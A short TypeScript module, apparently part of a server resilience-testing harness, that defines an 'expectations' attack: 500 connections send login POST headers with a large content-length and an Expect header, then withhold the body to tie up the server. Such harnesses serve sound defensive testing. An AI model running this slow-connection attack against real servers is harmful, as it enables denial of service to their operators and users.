import type { Attack } from '../attacker/attack.js';
import { dripBytes } from '../attacker/drip-bytes.js';

const head = (expectation: string) =>
  `POST /api/auth/login HTTP/1.1\r\nhost: a\r\ncontent-type: application/json\r\ncontent-length: 60000\r\nexpect: ${expectation}\r\n\r\n`;

export const expectations: Attack = {
  name: 'expectations',
  what: '500 connections ask with `Expect` whether they may send a body, and send none',
  async run(signal, target) {
    await Promise.all(
      ['100-continue', 'a-wonder'].map((expectation) =>
        dripBytes(signal, target, { connections: 250, head: head(expectation), drop: null }),
      ),
    );
  },
};
